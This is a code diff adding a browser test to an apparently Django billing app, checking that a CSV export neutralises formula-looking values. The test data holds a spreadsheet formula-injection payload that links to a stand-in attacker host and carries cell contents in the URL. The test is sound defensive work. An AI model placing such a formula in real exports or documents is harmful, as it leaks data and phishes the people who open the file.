@@ -80,3 +80,31 @@ def test_filter_export_and_renew(live_server, page, billing_stripe_settings):
     ).to_be_visible()
     renewed = BillingRequest.objects.filter(email="acme-expired@example.com").exclude(pk=expired.pk)
     assert renewed.get().status == BillingRequest.Status.PENDING
+
+
+def test_csv_export_of_a_formula_looking_description_opens_as_text(
+    live_server, page, billing_stripe_settings
+):
+    # A site editor (or a client's address) can put a formula in a description; the
+    # agency's accountant opens the export in a spreadsheet: it must stay text.
+    acme = make_site("acme.test", "Acme Plumbing")
+    connect_ready_account(billing_stripe_settings)
+    request = send(acme, "client@example.com")
+    BillingRequest.objects.filter(pk=request.pk).update(
+        description='=HYPERLINK("http://evil.example/?"&A1,"Pay here")'
+    )
+    make_user("agency", agency=True)
+
+    page.goto(f"{live_server.url}/admin/login/")
+    page.fill("input[name=username]", "agency")
+    page.fill("input[name=password]", PASSWORD)
+    page.click("button[type=submit]")
+    page.get_by_role("button", name="Reports").click()
+    page.get_by_role("link", name="Client billing overview").click()
+    page.get_by_role("navigation", name="Actions").get_by_role("button", name="Actions").click()
+    with page.expect_download() as download_info:
+        page.get_by_role("link", name="Download CSV").click()
+    content = open(download_info.value.path(), encoding="utf-8-sig").read()
+    (row,) = csv.DictReader(io.StringIO(content))
+    assert row["Description"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Pay here")'
+    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
